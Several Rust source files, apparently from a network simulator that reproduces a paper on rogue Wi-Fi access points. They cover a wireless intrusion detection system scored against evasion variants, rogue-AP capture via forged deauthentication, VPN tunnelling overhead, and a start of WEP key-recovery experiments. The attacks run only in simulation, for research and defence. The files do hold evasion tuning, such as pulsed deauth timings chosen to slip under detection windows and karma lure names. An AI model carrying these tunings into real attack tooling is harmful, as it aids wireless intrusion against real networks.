                SimDuration::from_millis(500),
                seed.fork(0xE7A).0,
                start,
                run_time,
            );
            sc.world
                .add_injector(attacker, attacker_pos, 18.0, 6, rogue);
        }
        EvasionVariant::KarmaCloaked => {
            let rogue = KarmaProbeRogue::new(
                karma_bssid(),
                6,
                vec![
                    "HOME".into(),
                    "AIRPORT".into(),
                    "HOTEL".into(),
                    "CORP".into(),
                ],
                SimDuration::from_millis(100),
                SimDuration::from_millis(250),
                start,
                run_time,
            );
            sc.world
                .add_injector(attacker, attacker_pos, 18.0, 6, rogue);
        }
        EvasionVariant::LowPowerStealth => {
            let rogue = SpoofBeaconer::new(
                corp_bssid(),
                "CORP",
                6,
                SimDuration::from_millis(800),
                start,
                run_time,
            );
            // 8 dBm from 50 m out: audible at the monitors, barely.
            sc.world
                .add_injector(attacker, Pos::new(50.0, 0.0), 8.0, 6, rogue);
        }
        EvasionVariant::PulsedDeauth => {
            let flooder = PulsedDeauthFlooder::new(
                corp_bssid(),
                Some(victim_mac()),
                4,
                SimDuration::from_millis(450),
                SimDuration::from_secs(3),
                start,
                run_time,
            );
            // On the corp channel, impersonating the corp AP, parked
            // near the monitors so its sparse bursts survive collisions
            // with the victim's own traffic.
            sc.world
                .add_injector(attacker, Pos::new(22.0, 8.0), 18.0, 1, flooder);
        }
    }

    // --- the WIDS deployment (E10's shape) ----------------------------
    let defender = sc.world.add_node("wids-defender");
    let monitors: Vec<usize> = params
        .monitor_channels
        .iter()
        .map(|&ch| sc.world.add_monitor(defender, params.monitor_pos, ch))
        .collect();
    sc.world.add_wire_tap(defender, sc.corp_switch);

    let mut pipe = WidsPipeline::new(WidsConfig {
        authorized_aps: vec![(corp_bssid(), 1)],
        trusted_bindings: vec![
            (addrs::CORP_GW, MacAddr::local(254)),
            (addrs::VICTIM, victim_mac()),
        ],
        ..WidsConfig::default()
    });
    let mut radio_sensors: Vec<RadioSensor> = monitors
        .iter()
        .map(|_| RadioSensor::new(pipe.new_sensor_id()))
        .collect();
    let wired_id = pipe.new_sensor_id();
    let mut wired_sensor = WiredSensor::new(wired_id);
    let mut wired_cursor = 0usize;

    let slice = params.slice;
    let mut now = SimTime::ZERO;
    while now < run_time {
        now = (now + slice).min(run_time);
        sc.world.run_until(now);
        for (sensor, &mon) in radio_sensors.iter_mut().zip(&monitors) {
            sensor.drain(sc.world.sniffer(defender, mon), &mut pipe.ring);
        }
        if let Some(tap) = sc.world.wire_tap(defender) {
            for (at, bytes) in &tap.frames[wired_cursor..] {
                wired_sensor.ingest(*at, bytes, &mut pipe.ring);
            }
            wired_cursor = tap.frames.len();
        }
        pipe.step(now);
    }

    // --- ground truth --------------------------------------------------
    let labels = match variant {
        // The rotating rogue has no single true address; any RogueAp
        // subject inside the window counts.
        EvasionVariant::MacRandomizing => vec![TruthLabel::new(
            IncidentCategory::RogueAp,
            None,
            start,
            run_time,
        )],
        EvasionVariant::KarmaCloaked => vec![TruthLabel::new(
            IncidentCategory::RogueAp,
            Some(karma_bssid()),
            start,
            run_time,
        )],
        EvasionVariant::LowPowerStealth => vec![TruthLabel::new(
            IncidentCategory::RogueAp,
            Some(corp_bssid()),
            start,
            run_time,
        )],
        // The pulsed flooder both floods (sparsely) and impersonates the
        // corp AP from the wrong spot, so a RogueAp finding against the
        // corp BSSID is a true detection of the spoofed source, not noise.
        EvasionVariant::PulsedDeauth => vec![
            TruthLabel::new(
                IncidentCategory::DeauthFlood,
                Some(corp_bssid()),
                start,
                run_time,
            ),
            TruthLabel::new(
                IncidentCategory::RogueAp,
                Some(corp_bssid()),
                start,
                run_time,
            ),
        ],
    };
    let eval = evaluate(pipe.incidents(), &labels, params.match_window);

    EvasionRunOutcome {
        variant,
        eval,
        incidents: pipe.incidents().len(),
        events: pipe.metrics().counter("wids.events"),
        incident_log: pipe
            .incidents()
            .iter()
            .map(|i| (i.category, i.subject, i.opened_at, i.score))
            .collect(),
    }
}

/// [`run_evasion_once_with`] on the corp baseline with default timing.
pub fn run_evasion_once(variant: EvasionVariant, seed: Seed) -> EvasionRunOutcome {
    run_evasion_once_with(
        &CorpScenarioCfg::paper_attack(),
        &E10EvasionParams::default(),
        variant,
        seed,
    )
}

/// One row of the evasion table.
#[derive(Clone, Debug)]
pub struct EvasionRow {
    /// Variant label.
    pub variant: EvasionVariant,
    /// Replications.
    pub reps: usize,
    /// Merged score across replications.
    pub eval: EvalOutcome,
    /// Mean incidents opened per run.
    pub mean_incidents: f64,
}

impl EvasionRow {
    /// Does the merged score clear the variant's pinned floor?
    pub fn passes_floor(&self) -> bool {
        let (p, r) = self.variant.floors();
        self.eval.precision() >= p && self.eval.recall() >= r
    }
}

/// Score every variant over `reps` replications each. Defaults:
/// [`evasion_table`].
pub fn evasion_table_with(
    base: &CorpScenarioCfg,
    params: &E10EvasionParams,
    reps: usize,
    seed: Seed,
) -> Vec<EvasionRow> {
    params
        .variants
        .iter()
        .map(|&variant| {
            let outcomes: Vec<EvasionRunOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    run_evasion_once_with(
                        base,
                        params,
                        variant,
                        seed.fork(0xE7A * 100 + rep as u64),
                    )
                })
                .collect();
            let mut eval = EvalOutcome::default();
            for o in &outcomes {
                eval.merge(&o.eval);
            }
            EvasionRow {
                variant,
                reps: outcomes.len(),
                eval,
                mean_incidents: outcomes.iter().map(|o| o.incidents as f64).sum::<f64>()
                    / outcomes.len().max(1) as f64,
            }
        })
        .collect()
}

/// [`evasion_table_with`] on the corp baseline with default timing.
pub fn evasion_table(reps: usize, seed: Seed) -> Vec<EvasionRow> {
    evasion_table_with(
        &CorpScenarioCfg::paper_attack(),
        &E10EvasionParams::default(),
        reps,
        seed,
    )
}

/// The evasion score card as Markdown — shared by the `rogue-bench`
/// harness, the scenario compiler (`report.kind = "e10-evasion"`), and
/// the golden/determinism suites.
pub fn report_body(
    base: &CorpScenarioCfg,
    params: &E10EvasionParams,
    reps: usize,
    seed: Seed,
) -> String {
    let rows = evasion_table_with(base, params, reps, seed);
    let mut t = Table::new(&[
        "variant",
        "reps",
        "TP",
        "FP",
        "FN",
        "precision",
        "recall",
        "floor P/R",
        "median latency s",
        "pass",
    ]);
    for r in &rows {
        let (fp, fr) = r.variant.floors();
        t.row(&[
            r.variant.name().to_string(),
            r.reps.to_string(),
            r.eval.true_positives.to_string(),
            r.eval.false_positives.to_string(),
            r.eval.false_negatives.to_string(),
            format!("{:.2}", r.eval.precision()),
            format!("{:.2}", r.eval.recall()),
            format!("{fp:.2}/{fr:.2}"),
            if r.eval.latencies_secs.is_empty() {
                "—".to_string()
            } else {
                format!("{:.2}", r.eval.median_latency_secs())
            },
            if r.passes_floor() { "yes" } else { "NO" }.to_string(),
        ]);
    }
    t.to_markdown()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn mac_randomizing_rogue_is_caught_by_churn() {
        let o = run_evasion_once(EvasionVariant::MacRandomizing, Seed(201));
        assert!((o.eval.recall() - 1.0).abs() < 1e-9, "{:?}", o.incident_log);
        assert!(
            (o.eval.precision() - 1.0).abs() < 1e-9,
            "{:?}",
            o.incident_log
        );
    }

    #[test]
    fn karma_cloaked_rogue_is_caught_by_probe_audit() {
        let o = run_evasion_once(EvasionVariant::KarmaCloaked, Seed(202));
        assert!((o.eval.recall() - 1.0).abs() < 1e-9, "{:?}", o.incident_log);
        assert!(
            (o.eval.precision() - 1.0).abs() < 1e-9,
            "{:?}",
            o.incident_log
        );
        // And fast: the fourth lure name lands within the first second.
        let (_, subject, opened, _) = o.incident_log[0];
        assert_eq!(subject, karma_bssid());
        assert!(opened < SimTime::from_secs(4), "{:?}", o.incident_log);
    }

    #[test]
    fn pulsed_deauth_is_caught_by_the_long_horizon() {
        let o = run_evasion_once(EvasionVariant::PulsedDeauth, Seed(203));
        assert!((o.eval.recall() - 1.0).abs() < 1e-9, "{:?}", o.incident_log);
        // The short window (5 in 2 s) must never have fired: detection
        // lands only once the 12th frame crosses the long horizon at
        // attack start + 7.35 s (last frame of the third burst).
        let flood = o
            .incident_log
            .iter()
            .find(|(c, _, _, _)| *c == IncidentCategory::DeauthFlood)
            .expect("flood incident");
        assert!(
            flood.2 >= SimTime::from_millis(9_350),
            "{:?}",
            o.incident_log
        );
    }

    #[test]
    fn every_variant_clears_its_floor() {
        for row in evasion_table(2, Seed(0xE7A)) {
            assert!(
                row.passes_floor(),
                "{} fell under its floor: {:?}",
                row.variant.name(),
                row
            );
        }
    }
}
