//! **E1 — Figure 1: rogue-AP association capture.**
//!
//! The configuration the paper's Figure 1 draws: a valid AP on channel 1
//! and a rogue with cloned SSID/BSSID/WEP on channel 6. Two questions
//! are quantified:
//!
//! 1. **The scan race** — when both APs are on air as the client joins,
//!    the strongest signal wins ([`capture_vs_power`]): the capture
//!    probability rises from 0 to 1 as the rogue's received power
//!    crosses the valid AP's.
//! 2. **The forced roam** — when the client is *already associated* it
//!    never re-evaluates; a rogue arriving later captures nobody until
//!    it forges deauthentication frames ("force the client's
//!    disassociation from the legitimate AP until the client associates
//!    with the Rogue AP", §4) — [`capture_with_deauth`].

use rayon::prelude::*;
use rogue_dot11::output::MacEvent;
use rogue_sim::{Seed, SimTime};

use crate::report::{pct, Table};
use crate::scenario::{build_corp, corp_bssid, victim_mac, CorpScenarioCfg, RogueCfg};

/// Parameters of the E1 drivers. [`E1Params::default`] is exactly the
/// paper configuration the checked-in report tables were generated
/// with; the scenario compiler (`rogue-scenario`) overrides fields from
/// a `.toml` file and must reproduce those tables byte-for-byte when it
/// leaves them at their defaults.
#[derive(Clone, Debug)]
pub struct E1Params {
    /// Rogue transmit powers swept in the scan race.
    pub powers_dbm: Vec<f64>,
    /// Log-normal shadowing applied during the sweep (makes the capture
    /// transition an S-curve instead of a step).
    pub sweep_shadowing_db: f64,
    /// Wall-clock horizon of each sweep replication.
    pub sweep_run: SimTime,
    /// When the late rogue powers on in the deauth comparison.
    pub deauth_rogue_start: SimTime,
    /// Wall-clock horizon of each deauth-comparison replication.
    pub deauth_run: SimTime,
}

impl Default for E1Params {
    fn default() -> E1Params {
        E1Params {
            powers_dbm: vec![-15.0, -10.0, -5.0, 0.0, 5.0, 10.0, 15.0, 18.0],
            sweep_shadowing_db: 6.0,
            sweep_run: SimTime::from_secs(5),
            deauth_rogue_start: SimTime::from_secs(3),
            deauth_run: SimTime::from_secs(12),
        }
    }
}

/// One replication's outcome.
#[derive(Clone, Debug)]
pub struct CaptureOutcome {
    /// The victim was associated to the rogue AP at the end.
    pub captured: bool,
    /// When the victim first associated to any AP.
    pub first_assoc: Option<SimTime>,
    /// When the rogue AP first held the victim's association.
    pub capture_time: Option<SimTime>,
    /// Number of (forced) disassociations the victim suffered.
    pub forced_disassocs: usize,
}

/// Run one capture replication.
pub fn run_capture_once(cfg: &CorpScenarioCfg, run_time: SimTime, seed: Seed) -> CaptureOutcome {
    let mut sc = build_corp(cfg, seed);
    sc.world.run_until(run_time);

    let captured = match &sc.gateway {
        Some(gw) => sc
            .world
            .ap(gw.node, gw.rogue_ap_radio)
            .is_associated(victim_mac()),
        None => false,
    };
    let first_assoc = sc
        .world
        .mac_events
        .iter()
        .find(|(_, n, e)| *n == sc.victim && matches!(e, MacEvent::Associated { .. }))
        .map(|(t, _, _)| *t);
    // The capture instant: the rogue AP (on the gateway node) accepted
    // the victim.
    let capture_time = sc.gateway.as_ref().and_then(|gw| {
        sc.world
            .mac_events
            .iter()
            .find(|(_, n, e)| {
                *n == gw.node
                    && matches!(e, MacEvent::ClientAssociated { client } if *client == victim_mac())
            })
            .map(|(t, _, _)| *t)
    });
    let forced_disassocs = sc
        .world
        .mac_events
        .iter()
        .filter(|(_, n, e)| {
            *n == sc.victim && matches!(e, MacEvent::Disassociated { forced: true, .. })
        })
        .count();
    let _ = corp_bssid();
    CaptureOutcome {
        captured,
        first_assoc,
        capture_time,
        forced_disassocs,
    }
}

/// One row of the power sweep.
#[derive(Clone, Debug)]
pub struct CapturePoint {
    /// Rogue transmit power, dBm.
    pub rogue_power_dbm: f64,
    /// Replications.
    pub reps: usize,
    /// Fraction captured.
    pub capture_rate: f64,
    /// Mean time from start to capture (captured runs), seconds.
    pub mean_capture_secs: f64,
}

/// The scan race: rogue on air from the start, power swept. Shadowing
/// (6 dB by default) makes the transition a smooth S-curve rather than
/// a step. Defaults: [`capture_vs_power`].
pub fn capture_vs_power_with(
    base: &CorpScenarioCfg,
    params: &E1Params,
    reps: usize,
    seed: Seed,
) -> Vec<CapturePoint> {
    params
        .powers_dbm
        .par_iter()
        .map(|&p| {
            let outcomes: Vec<CaptureOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    let mut cfg = base.clone();
                    cfg.shadowing_sigma_db = params.sweep_shadowing_db;
                    cfg.rogue = Some(RogueCfg {
                        tx_power_dbm: p,
                        ..base.rogue.clone().unwrap_or_default()
                    });
                    run_capture_once(
                        &cfg,
                        params.sweep_run,
                        seed.fork((p * 10.0) as i64 as u64 ^ (rep as u64) << 17),
                    )
                })
                .collect();
            let captured: Vec<&CaptureOutcome> = outcomes.iter().filter(|o| o.captured).collect();
            CapturePoint {
                rogue_power_dbm: p,
                reps: outcomes.len(),
                capture_rate: captured.len() as f64 / outcomes.len().max(1) as f64,
                mean_capture_secs: if captured.is_empty() {
                    f64::NAN
                } else {
                    captured
                        .iter()
                        .filter_map(|o| o.capture_time)
                        .map(|t| t.as_secs_f64())
                        .sum::<f64>()
                        / captured.len() as f64
                },
            }
        })
        .collect()
}

/// [`capture_vs_power_with`] on the paper scenario with paper timing.
pub fn capture_vs_power(powers_dbm: &[f64], reps: usize, seed: Seed) -> Vec<CapturePoint> {
    let params = E1Params {
        powers_dbm: powers_dbm.to_vec(),
        ..E1Params::default()
    };
    capture_vs_power_with(&CorpScenarioCfg::paper_attack(), &params, reps, seed)
}

/// One row of the deauth comparison.
#[derive(Clone, Debug)]
pub struct DeauthPoint {
    /// Whether forged deauth was used.
    pub deauth: bool,
    /// Replications.
    pub reps: usize,
    /// Fraction of runs where the late-arriving rogue captured the
    /// victim.
    pub capture_rate: f64,
    /// Mean time from rogue power-on to capture, seconds.
    pub mean_capture_after_start_secs: f64,
}

/// The forced roam: the rogue arrives late (t = 3 s by default), after
/// the victim has associated to the valid AP. Without deauth the sticky
/// association never re-evaluates; with forged deauth the victim is
/// pushed off and re-joins the (stronger) rogue. Defaults:
/// [`capture_with_deauth`].
pub fn capture_with_deauth_with(
    base: &CorpScenarioCfg,
    params: &E1Params,
    reps: usize,
    seed: Seed,
) -> Vec<DeauthPoint> {
    [false, true]
        .into_iter()
        .map(|deauth| {
            let rogue_start = params.deauth_rogue_start;
            let outcomes: Vec<CaptureOutcome> = (0..reps)
                .into_par_iter()
                .map(|rep| {
                    let mut cfg = base.clone();
                    cfg.rogue = Some(RogueCfg {
                        deauth_victim: deauth,
                        start_at: rogue_start,
                        ..base.rogue.clone().unwrap_or_default()
                    });
                    run_capture_once(
                        &cfg,
                        params.deauth_run,
                        seed.fork(rep as u64 * 2 + deauth as u64),
                    )
                })
                .collect();
            let captured: Vec<&CaptureOutcome> = outcomes.iter().filter(|o| o.captured).collect();
            DeauthPoint {
                deauth,
                reps: outcomes.len(),
                capture_rate: captured.len() as f64 / outcomes.len().max(1) as f64,
                mean_capture_after_start_secs: if captured.is_empty() {
                    f64::NAN
                } else {
                    captured
                        .iter()
                        .filter_map(|o| o.capture_time)
                        .map(|t| t.since(rogue_start).as_secs_f64())
                        .sum::<f64>()
                        / captured.len() as f64
                },
            }
        })
        .collect()
}

/// [`capture_with_deauth_with`] on the paper scenario with paper timing.
pub fn capture_with_deauth(reps: usize, seed: Seed) -> Vec<DeauthPoint> {
    capture_with_deauth_with(
        &CorpScenarioCfg::paper_attack(),
        &E1Params::default(),
        reps,
        seed,
    )
}

/// The E1 report body: the power-sweep table followed by the
/// deauth-comparison table. This is the single formatter both the
/// `rogue-bench` harness and the scenario compiler call, so a `.toml`
/// scenario that leaves the parameters at their paper values reproduces
/// the checked-in table byte-for-byte.
pub fn report_body(base: &CorpScenarioCfg, params: &E1Params, reps: usize, seed: Seed) -> String {
    let points = capture_vs_power_with(base, params, reps, seed);
    let mut t = Table::new(&["rogue tx dBm", "reps", "capture rate", "mean capture s"]);
    for p in &points {
        t.row(&[
            format!("{:+.0}", p.rogue_power_dbm),
            p.reps.to_string(),
            pct(p.capture_rate),
            format!("{:.2}", p.mean_capture_secs),
        ]);
    }
    let mut body = t.render();
    body.push('\n');
    let rows = capture_with_deauth_with(base, params, reps, seed);
    let mut t = Table::new(&[
        "late rogue + forged deauth",
        "capture rate",
        "mean s after start",
    ]);
    for r in &rows {
        t.row(&[
            r.deauth.to_string(),
            pct(r.capture_rate),
            format!("{:.2}", r.mean_capture_after_start_secs),
        ]);
    }
    body.push_str(&t.render());
    body
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strong_rogue_captures_weak_rogue_does_not() {
        // Strong rogue (18 dBm at ~6 m from the victim) wins.
        let cfg = CorpScenarioCfg::paper_attack();
        let o = run_capture_once(&cfg, SimTime::from_secs(5), Seed(31));
        assert!(o.captured, "{o:?}");
        assert!(o.capture_time.is_some());

        // Hopeless rogue (-30 dBm): below the victim's candidate floor.
        let mut cfg = CorpScenarioCfg::paper_attack();
        cfg.rogue = Some(RogueCfg {
            tx_power_dbm: -30.0,
            ..RogueCfg::default()
        });
        let o = run_capture_once(&cfg, SimTime::from_secs(5), Seed(32));
        assert!(!o.captured, "{o:?}");
    }

    #[test]
    fn late_rogue_needs_deauth() {
        let rows = capture_with_deauth(2, Seed(33));
        assert_eq!(rows.len(), 2);
        let without = &rows[0];
        let with = &rows[1];
        assert!(!without.deauth && with.deauth);
        assert_eq!(
            without.capture_rate, 0.0,
            "sticky association: no capture without deauth ({without:?})"
        );
        assert!(
            with.capture_rate > 0.9,
            "forged deauth must force the roam ({with:?})"
        );
    }

    #[test]
    fn deauth_registers_forced_disassociation() {
        let mut cfg = CorpScenarioCfg::paper_attack();
        cfg.rogue = Some(RogueCfg {
            deauth_victim: true,
            start_at: SimTime::from_secs(3),
            ..RogueCfg::default()
        });
        let o = run_capture_once(&cfg, SimTime::from_secs(12), Seed(34));
        assert!(o.forced_disassocs >= 1, "{o:?}");
        assert!(o.captured);
    }
}
