//! **E5 — §5.3: the TCP-encapsulation penalty.**
//!
//! "For testing purposes we have utilized a PPP through SSH VPN … This of
//! course has drawbacks since any UDP traffic is subject to unnecessary
//! retransmission by TCP."
//!
//! Topology: client ── lossy segment ── VPN endpoint ── clean LAN ──
//! server. The client tunnels everything; the lossy segment stands in
//! for the flaky wireless hop. Two encapsulations are compared under a
//! swept loss rate:
//!
//! * **UDP encapsulation** — lost records are simply lost; UDP flows see
//!   the raw loss but latency stays flat.
//! * **TCP encapsulation** (PPP-over-SSH) — the outer TCP dutifully
//!   retransmits every lost record: UDP "reliability" the application
//!   never asked for, paid in head-of-line-blocking latency; and for
//!   inner TCP flows, two stacked retransmission loops.

use rayon::prelude::*;
use rogue_dot11::MacAddr;
use rogue_netstack::netfilter::SnatRule;
use rogue_netstack::Ipv4Addr;
use rogue_phy::MediumParams;
use rogue_services::apps::DownloadClient;
use rogue_services::apps::HttpServerApp;
use rogue_services::site::{download_portal, make_binary};
use rogue_services::traffic::{UdpCbrSource, UdpSink};
use rogue_sim::{Seed, SimDuration, SimRng, SimTime};
use rogue_vpn::client::VpnClientConfig;
use rogue_vpn::server::{ClientAccount, VpnServerConfig};
use rogue_vpn::{Transport, VpnClient, VpnServer, PSK_LEN};

use crate::world::World;

const CLIENT_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 2);
const ENDPOINT_LOSSY_IP: Ipv4Addr = Ipv4Addr::new(192, 168, 1, 1);
const ENDPOINT_LAN_IP: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
const SERVER_IP: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);
const CLIENT_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 2);
const ENDPOINT_TUN: Ipv4Addr = Ipv4Addr::new(10, 8, 0, 1);

/// Which inner workload runs through the tunnel.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum InnerFlow {
    /// Constant-bit-rate UDP (one datagram / 20 ms for 10 s).
    UdpCbr,
    /// A bulk HTTP download (64 KiB).
    TcpBulk,
}

/// One measurement row.
#[derive(Clone, Debug)]
pub struct TunnelPoint {
    /// Encapsulation.
    pub transport: Transport,
    /// Inner workload.
    pub flow: InnerFlow,
    /// Lossy-segment frame drop probability.
    pub loss: f64,
    /// Replications.
    pub reps: usize,
    /// UDP: fraction of datagrams delivered (NaN for TcpBulk).
    pub udp_delivery: f64,
    /// UDP: mean one-way latency, ms (NaN for TcpBulk).
    pub udp_mean_latency_ms: f64,
    /// UDP: worst latency, ms (NaN for TcpBulk).
    pub udp_max_latency_ms: f64,
    /// TCP: mean download completion time, s (NaN for UdpCbr or if no
    /// run completed).
    pub tcp_completion_secs: f64,
    /// TCP: fraction of downloads that completed in time.
    pub tcp_completion_rate: f64,
}

#[derive(Debug)]
struct RunMetrics {
    udp_delivery: f64,
    udp_mean_ms: f64,
    udp_max_ms: f64,
    tcp_secs: Option<f64>,
}

fn run_once(transport: Transport, flow: InnerFlow, loss: f64, seed: Seed) -> RunMetrics {
    let mut world = World::new(seed, MediumParams::default());
    let lossy = world.add_switch_lossy(SimDuration::from_micros(500), loss);
    let clean = world.add_switch(SimDuration::from_micros(10));
    let mut rng = SimRng::new(seed.fork(0xE5));

    // Client.
    let client = world.add_node("client");
    let c_wired = world.add_wired_iface(client, lossy, MacAddr::local(1), CLIENT_IP, 24);
    let c_tun = world.add_tun_iface(client, MacAddr::local(101), CLIENT_TUN, 24);
    world
        .host_mut(client)
        .routes
        .add_default(ENDPOINT_TUN, c_tun);
    let _ = c_wired;

    // Endpoint.
    let ep = world.add_node("endpoint");
    world.add_wired_iface(ep, lossy, MacAddr::local(2), ENDPOINT_LOSSY_IP, 24);
    let ep_lan = world.add_wired_iface(ep, clean, MacAddr::local(3), ENDPOINT_LAN_IP, 8);
    let ep_tun = world.add_tun_iface(ep, MacAddr::local(102), ENDPOINT_TUN, 24);
    {
        let host = world.host_mut(ep);
        host.ip_forward = true;
        host.netfilter.add_snat(SnatRule {
            out_ifindex: ep_lan,
            src_net: Some((Ipv4Addr::new(10, 8, 0, 0), 24)),
            to_ip: None,
        });
    }

    // Server.
    let server = world.add_node("server");
    world.add_wired_iface(server, clean, MacAddr::local(4), SERVER_IP, 8);

    // VPN pair.
    let psk = [0x5Au8; PSK_LEN];
    let vpn_client = VpnClient::new(
        VpnClientConfig {
            server: (ENDPOINT_LOSSY_IP, 4500),
            psk,
            client_id: 1,
            transport,
            tun_ifindex: c_tun,
            tun_gateway_ip: ENDPOINT_TUN,
            tun_gateway_mac: MacAddr::local(102),
            start_at: SimTime::from_millis(10),
        },
        rng.fork(1),
    );
    world.attach_vpn_client(client, c_tun, vpn_client);
    let vpn_server = VpnServer::new(
        VpnServerConfig {
            port: 4500,
            transport,
            accounts: [(
                1,
                ClientAccount {
                    psk,
                    tun_ip: CLIENT_TUN,
                },
            )]
            .into_iter()
            .collect(),
            tun_ifindex: ep_tun,
            tun_peer_mac: MacAddr::local(101),
        },
        rng.fork(2),
    );
    world.attach_vpn_server(ep, ep_tun, vpn_server);

    match flow {
        InnerFlow::UdpCbr => {
            let src = UdpCbrSource::new(
                (SERVER_IP, 5000),
                64,
                SimDuration::from_millis(20),
                SimTime::from_secs(1),
                SimTime::from_secs(11),
            );
            let src_app = world.add_app(client, Box::new(src));
            let sink_app = world.add_app(server, Box::new(UdpSink::new(5000)));
            world.run_until(SimTime::from_secs(14));
            let sent = world.app::<UdpCbrSource>(client, src_app).sent;
            let sink = world.app::<UdpSink>(server, sink_app);
            RunMetrics {
                udp_delivery: if sent == 0 {
                    0.0
                } else {
                    sink.received as f64 / sent as f64
                },
                udp_mean_ms: sink.mean_latency_ms(),
                udp_max_ms: sink.latency_max_ns as f64 / 1e6,
                tcp_secs: None,
            }
        }
        InnerFlow::TcpBulk => {
            let portal = download_portal(make_binary(&mut rng, 64 * 1024));
            world.add_app(
                server,
                Box::new(HttpServerApp::new(80, portal.site.clone())),
            );
            let start = SimTime::from_secs(1);
            let dl = world.add_app(
                client,
                Box::new(DownloadClient::new(
                    SERVER_IP,
                    "/download.html",
                    start,
                    SimDuration::from_secs(60),
                )),
            );
            world.run_until(SimTime::from_secs(70));
            let outcome = world.app::<DownloadClient>(client, dl).outcome.clone();
            RunMetrics {
                udp_delivery: f64::NAN,
                udp_mean_ms: f64::NAN,
                udp_max_ms: f64::NAN,
                tcp_secs: outcome.and_then(|o| {
                    (o.error.is_none() && o.verified)
                        .then(|| o.completed_at.map(|t| t.since(start).as_secs_f64()))
                        .flatten()
                }),
            }
        }
    }
}

/// Sweep loss for both encapsulations and one inner flow.
pub fn tunnel_comparison(
    flow: InnerFlow,
    losses: &[f64],
    reps: usize,
    seed: Seed,
) -> Vec<TunnelPoint> {
    let mut rows = Vec::new();
    for transport in [Transport::Udp, Transport::Tcp] {
        let mut pts: Vec<TunnelPoint> = losses
            .par_iter()
            .map(|&loss| {
                let runs: Vec<RunMetrics> = (0..reps)
                    .into_par_iter()
                    .map(|rep| {
                        run_once(
                            transport,
                            flow,
                            loss,
                            seed.fork(
                                (loss * 1e4) as u64 * 100
                                    + rep as u64
                                    + matches!(transport, Transport::Tcp) as u64 * 7_777,
                            ),
                        )
                    })
                    .collect();
                let n = runs.len().max(1) as f64;
                let completed: Vec<f64> = runs.iter().filter_map(|r| r.tcp_secs).collect();
                TunnelPoint {
                    transport,
                    flow,
                    loss,
                    reps: runs.len(),
                    udp_delivery: runs.iter().map(|r| r.udp_delivery).sum::<f64>() / n,
                    udp_mean_latency_ms: runs.iter().map(|r| r.udp_mean_ms).sum::<f64>() / n,
                    udp_max_latency_ms: runs
                        .iter()
                        .map(|r| r.udp_max_ms)
                        .fold(f64::NEG_INFINITY, f64::max),
                    tcp_completion_secs: if completed.is_empty() {
                        f64::NAN
                    } else {
                        completed.iter().sum::<f64>() / completed.len() as f64
                    },
                    tcp_completion_rate: completed.len() as f64 / n,
                }
            })
            .collect();
        rows.append(&mut pts);
    }
    rows
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn lossless_both_transports_deliver() {
        for transport in [Transport::Udp, Transport::Tcp] {
            let m = run_once(transport, InnerFlow::UdpCbr, 0.0, Seed(51));
            assert!(
                m.udp_delivery > 0.95,
                "{transport:?}: delivery {}",
                m.udp_delivery
            );
        }
    }

    #[test]
    fn lossy_udp_encap_drops_tcp_encap_recovers() {
        let udp = run_once(Transport::Udp, InnerFlow::UdpCbr, 0.08, Seed(52));
        let tcp = run_once(Transport::Tcp, InnerFlow::UdpCbr, 0.08, Seed(52));
        // UDP encap: inner datagrams share the raw loss (two lossy
        // crossings: record out, nothing back — one crossing each way).
        assert!(
            udp.udp_delivery < 0.99,
            "udp encap delivery {}",
            udp.udp_delivery
        );
        // TCP encap: "unnecessary retransmission" delivers nearly all…
        assert!(
            tcp.udp_delivery > udp.udp_delivery,
            "udp {udp:?} tcp {tcp:?}"
        );
        // …at a latency cost.
        assert!(
            tcp.udp_max_ms > udp.udp_max_ms,
            "head-of-line blocking must show: udp {udp:?} tcp {tcp:?}"
        );
    }

    #[test]
    fn bulk_download_completes_through_both() {
        for transport in [Transport::Udp, Transport::Tcp] {
            let m = run_once(transport, InnerFlow::TcpBulk, 0.02, Seed(53));
            assert!(
                m.tcp_secs.is_some(),
                "{transport:?}: download must complete under mild loss"
            );
        }
    }
}
