//! **E4 — the §4 premise: WEP key recovery ("retrieved the WEP key via
//! Airsnort").**
//!
//! The FMS attack recovers one secret byte at a time from "resolved"
//! weak-IV frames. This experiment measures the success probability of
//! full-key recovery as a function of captured weak IVs per key-byte
//! position, for both WEP-40 and WEP-104 — the crack-feasibility curve
//! behind the paper's one-line assumption.
//!
//! Frame-count conversion: a sequentially-counting card emits exactly one
//! weak IV of the classic form `(a+3, 0xFF, x)` per position every
//! 65 536 frames, so `W` weak IVs per position correspond to
//! `W × 65 536` captured frames — the millions-of-packets figure
//! contemporary reports quote for Airsnort.

use rayon::prelude::*;
use rogue_attack::airsnort::{Airsnort, CrackOutcome};
use rogue_crypto::fms::{targeted_weak_ivs, Sample};
use rogue_crypto::rc4::Rc4;
use rogue_crypto::wep::WepKey;
use rogue_sim::{Seed, SimRng};

/// One row of the crack curve.
#[derive(Clone, Debug)]
pub struct CrackPoint {
    /// Secret key length in bytes (5 or 13).
    pub key_len: usize,
    /// Weak IVs captured per key-byte position.
    pub weak_ivs_per_position: usize,
    /// Equivalent passively captured frames (sequential-IV card).
    pub equivalent_frames: u64,
    /// Replications (distinct random keys).
    pub reps: usize,
    /// Fraction of keys fully recovered.
    pub success_rate: f64,
}

/// Generate a random WEP key of `len` bytes.
pub fn random_key(rng: &mut SimRng, len: usize) -> WepKey {
    let mut bytes = vec![0u8; len];
    rng.fill_bytes(&mut bytes);
    WepKey::new(&bytes)
}

/// First-keystream-byte oracle: what a sniffer recovers from a captured
/// frame given the LLC/SNAP known plaintext. Uses the real cipher.
pub fn oracle_sample(key: &WepKey, iv: [u8; 3]) -> Sample {
    let mut k = Vec::with_capacity(3 + key.len());
    k.extend_from_slice(&iv);
    k.extend_from_slice(key.bytes());
    let ks0 = Rc4::new(&k).next_byte();
    Sample { iv, ks0 }
}

/// Attempt a crack with `weak_per_position` weak IVs per byte position.
/// Returns whether the true key was recovered.
pub fn crack_once(key: &WepKey, weak_per_position: usize) -> bool {
    let mut snort = Airsnort::new();
    for iv in targeted_weak_ivs(key.len(), weak_per_position) {
